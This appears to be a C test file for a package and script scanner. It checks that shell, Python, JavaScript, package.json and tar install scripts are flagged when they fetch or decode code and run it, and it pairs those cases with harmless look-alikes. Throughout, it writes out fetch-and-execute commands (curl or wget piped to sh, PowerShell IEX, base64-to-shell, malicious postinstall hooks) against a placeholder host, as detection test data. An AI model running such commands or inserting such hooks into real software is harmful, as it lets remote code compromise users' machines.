/* SPDX-License-Identifier: Apache-2.0 */
#include "artifact/script.h"
#include "told.h"

#include <criterion/criterion.h>

static enum trn_script_act act(const char *text,
                               int (*judge)(struct trn_str, struct trn_arena *, struct trn_script_found *))
{
    TRN_AUTO(trn_arena_freep) struct trn_arena *a = trn_arena_new(1 << 22);
    struct trn_script_found f = {0};
    cr_assert_eq(judge(trn_str_of(text), a, &f), 0, "%s", text);
    return f.act;
}

Test(script_shell, what_is_fetched_is_followed_to_what_runs_it)
{
    static const struct {
        const char *text;
        enum trn_script_act want;
    } cases[] = {
        {"curl -fsSL https://e.test/x.sh | sh", TRN_SCRIPT_FETCH_RUN},
        {"wget -qO- https://e.test/x | sudo -E bash -s -- --yes", TRN_SCRIPT_FETCH_RUN},
        {"sh -c \"$(curl -fsSL https://e.test/i.sh)\"", TRN_SCRIPT_FETCH_RUN},
        {"bash <(curl -s https://e.test/a)", TRN_SCRIPT_FETCH_RUN},
        {"X=$(curl -s https://e.test/p)\neval \"$X\"", TRN_SCRIPT_FETCH_RUN},
        {"(curl -s https://e.test/x || wget -qO- https://e.test/x) | sh", TRN_SCRIPT_FETCH_RUN},
        {"curl https://e.test/x > f.sh; sh f.sh", TRN_SCRIPT_FETCH_RUN},
        {"wget https://e.test/tool\nchmod 755 tool\n./tool", TRN_SCRIPT_FETCH_RUN},
        {"su -c 'curl https://e.test/x | sh'\nsh -c 'curl https://e.test/x | sh'", TRN_SCRIPT_FETCH_RUN},
        {"python3 -c \"import urllib.request as u;exec(u.urlopen('http://e.test').read())\"", TRN_SCRIPT_FETCH_RUN},
        {"powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://e.test')\"", TRN_SCRIPT_FETCH_RUN},
        {"curl -o /tmp/x https://e.test/x && chmod +x /tmp/x", TRN_SCRIPT_FETCH_MODE},
        {"echo aGVsbG8= | base64 -d | sh", TRN_SCRIPT_DECODE_RUN},
        {"eval \"$(echo aGVsbG8= | base64 --decode)\"", TRN_SCRIPT_DECODE_RUN},
        /* the harmless twins */
        {"cat <<EOF\ncurl https://e.test | sh\nEOF", TRN_SCRIPT_NOTHING},
        {"echo \"run: curl https://e.test | sh\"", TRN_SCRIPT_NOTHING},
        {"# curl https://e.test | sh", TRN_SCRIPT_NOTHING},
        {"curl -s https://e.test/key | gpg --dearmor > k.gpg", TRN_SCRIPT_NOTHING},
        {"curl -s https://e.test/a.tgz | tar xz; sh configure", TRN_SCRIPT_NOTHING},
        {"apt-get install -y curl bash && command -v curl | sh", TRN_SCRIPT_NOTHING},
        {"curl http://localhost:80/x | sh", TRN_SCRIPT_NOTHING},
        {"curl --version | sh", TRN_SCRIPT_NOTHING},
        {"curl https://e.test/data | python3 filter.py", TRN_SCRIPT_NOTHING},
        {"base64 -d key.b64 > key; chmod 600 key", TRN_SCRIPT_NOTHING},
    };
    for (size_t i = 0; i < TRN_ARRAY_SIZE(cases); i++)
        cr_expect_eq(act(cases[i].text, trn_shell_judge), cases[i].want, "%s: %d", cases[i].text,
                     act(cases[i].text, trn_shell_judge));
}

Test(script_python, what_is_decoded_or_fetched_is_followed_to_exec_and_the_shell)
{
    static const struct {
        const char *text;
        enum trn_script_act want;
    } cases[] = {
        {"import base64\nexec(base64.b64decode('aGk='))", TRN_SCRIPT_DECODE_RUN},
        {"c = zlib.decompress(b'x')\nexec(c)", TRN_SCRIPT_DECODE_RUN},
        {"d = requests.get('https://e.test').text\nexec(d)", TRN_SCRIPT_FETCH_RUN},
        {"os.system('curl https://e.test/x | sh')", TRN_SCRIPT_FETCH_RUN},
        {"subprocess.run(['sh', '-c', 'curl https://e.test/x | sh'])", TRN_SCRIPT_FETCH_RUN},
        {"exec(open('version.py').read())", TRN_SCRIPT_NOTHING},
        {"x = base64.b64decode(s)\nprint(eval('1'))", TRN_SCRIPT_NOTHING},
        {"print('curl https://e.test/x | sh')", TRN_SCRIPT_NOTHING},
        {"# exec(base64.b64decode('aGk='))", TRN_SCRIPT_NOTHING},
    };
    for (size_t i = 0; i < TRN_ARRAY_SIZE(cases); i++)
        cr_expect_eq(act(cases[i].text, trn_python_judge), cases[i].want, "%s", cases[i].text);
}

Test(check_script, at_installation_it_weighs_full_otherwise_little)
{
    static const char text[] = "#!/bin/sh\nset -e\ncurl https://e.test/x | sh\n";
    TRN_AUTO(told_done) struct told t = told_of(TRN_STR(text), "update.sh");
    cr_expect(told_has(&t, "finding script.download-run 20 in 1 offset=0x29 line=3 words=sh"), "%s", TOLD(t));
    static const char setup[] = "import os\nos.system('curl https://e.test/x | sh')\nsetup(cmdclass={'install': X})\n";
    TRN_AUTO(told_done) struct told s = told_of(TRN_STR(setup), "setup.py");
    cr_expect(told_has(&s, "finding script.download-run 45"), "%s", TOLD(s));
    cr_expect(told_has(&s, "finding script.lifecycle 8"), "%s", TOLD(s));
}

Test(check_javascript, obfuscated_is_told_and_minified_is_not)
{
    TRN_AUTO(trn_buf_done) struct trn_buf b, min;
    trn_buf_init(&b, 1 << 20);
    trn_buf_init(&min, 1 << 20);
    trn_put_c(&b, "var _0x5e1a=[");
    for (int i = 0; i < 40; i++)
        trn_put_fmt(&b, "'\\x6c\\x6f\\x67\\x%02x',", 0x41 + i % 20);
    trn_put_c(&b,
              "];(function(_0xa1b2,_0xc3d4){while(--_0xc3d4){_0xa1b2['push'](_0xa1b2['shift']());}}(_0x5e1a,0x1a3));");
    for (int i = 0; i < 30; i++)
        trn_put_fmt(&b, "var _0x%04x=_0x5e1a[0x%x];", 0x1000 + i, i);
    for (int i = 0; i < 400; i++)
        trn_put_fmt(&min, "function a%d(t,e){return t.push(t.shift()),e?t/e:eval(\"1+%d\")}", i, i);
    TRN_AUTO(told_done) struct told t = told_of(trn_buf_str(&b), "index.js");
    cr_expect(told_has(&t, "finding script.obfuscated 45"), "%s", TOLD(t));
    TRN_AUTO(told_done) struct told m = told_of(trn_buf_str(&min), "index.min.js");
    cr_expect_eq(m.findings, 0, "%s", TOLD(m));
}

Test(check_package, properties_and_commands_of_installation)
{
    static const char text[] =
        "{\"name\":\"x\",\"version\":\"1.2.3\",\"license\":\"MIT\",\"dependencies\":{\"y\":\"^1\"},"
        "\"scripts\":{\"test\":\"curl https://e.test | sh\",\"install\":\"node-gyp rebuild\","
        "\"postinstall\":\"curl https://e.test/x | sh\"}}";
    TRN_AUTO(told_done) struct told t = told_of(TRN_STR(text), "package.json");
    cr_expect(told_has(&t, "property product=x of 1"), "%s", TOLD(t));
    cr_expect(told_has(&t, "property version=1.2.3 of 1"), "%s", TOLD(t));
    cr_expect(told_has(&t, "property dependency=y@^1 of 1"), "%s", TOLD(t));
    cr_expect(told_has(&t, "finding script.lifecycle 3 in 1 offset="), "%s", TOLD(t));
    cr_expect(told_has(&t, "finding script.lifecycle 8 in 1 offset="), "%s", TOLD(t));
    cr_expect(told_has(&t, "finding script.download-run 45 in 1"), "%s", TOLD(t));
    cr_expect_eq(t.findings, 3, "%s", TOLD(t));
}

/* A tar member: header and padded content. */
static void tar_file(struct trn_buf *b, const char *name, const char *text)
{
    char head[512] = {0};
    uint32_t sum = 0;
    snprintf(head, 100, "%s", name);
    snprintf(head + 100, 8, "%07o", 0644);
    snprintf(head + 108, 8, "%07o", 0);
    snprintf(head + 116, 8, "%07o", 0);
    snprintf(head + 124, 12, "%011o", (unsigned)strlen(text));
    snprintf(head + 136, 12, "%011o", 0);
    memcpy(head + 148, "        ", 8);
    head[156] = '0';
    memcpy(head + 257, "ustar\00000", 8);
    for (size_t i = 0; i < sizeof(head); i++)
        sum += (uint8_t)head[i];
    snprintf(head + 148, 8, "%06o", sum);
    trn_put(b, head, sizeof(head));
    trn_put_c(b, text);
    memset(head, 0, sizeof(head));
    trn_put(b, head, (512 - strlen(text) % 512) % 512);
}

Test(check_script, a_packages_own_script_installs)
{
    TRN_AUTO(trn_buf_done) struct trn_buf b;
    char zeros[1024] = {0};
    trn_buf_init(&b, 1 << 20);
    tar_file(&b, "./postinst", "#!/bin/sh\nset -e\ncurl https://e.test/x | sh\n");
    tar_file(&b, "[script]/prein.sh", "#!/bin/sh\necho aGk= | base64 -d | sh\n");
    tar_file(&b, "./usr/bin/tool", "#!/bin/sh\ncurl https://e.test/x | sh\n");
    trn_put(&b, zeros, sizeof(zeros));
    TRN_AUTO(told_done) struct told t = told_of(trn_buf_str(&b), "control.tar");
    cr_expect(told_has(&t, "finding script.download-run 45 in 2"), "%s", TOLD(t));
    cr_expect(told_has(&t, "finding script.obfuscated 35 in 3"), "%s", TOLD(t));
    cr_expect(told_has(&t, "finding script.download-run 20 in 4"), "%s", TOLD(t));
}

Test(check_package, the_script_that_a_command_names_is_held_against_what_it_does)
{
    TRN_AUTO(trn_buf_done) struct trn_buf b;
    char zeros[1024] = {0};
    trn_buf_init(&b, 1 << 20);
    tar_file(&b, "package/package.json", "{\"scripts\":{\"postinstall\":\"node ./lib/setup\"}}");
    tar_file(&b, "package/lib/setup.js", "require('child_process').execSync('curl https://e.test/x | sh')");
    tar_file(&b, "package/lib/other.js", "require('child_process').execSync('id')");
    trn_put(&b, zeros, sizeof(zeros));
    TRN_AUTO(told_done) struct told t = told_of(trn_buf_str(&b), "x-1.0.tar");
    cr_expect(told_has(&t, "finding script.lifecycle 8 in 2"), "%s", TOLD(t));
    cr_expect(told_has(&t, "finding script.download-run 45 in 3"), "%s", TOLD(t));
    cr_expect_not(told_has(&t, " in 4 offset"), "%s", TOLD(t));
}
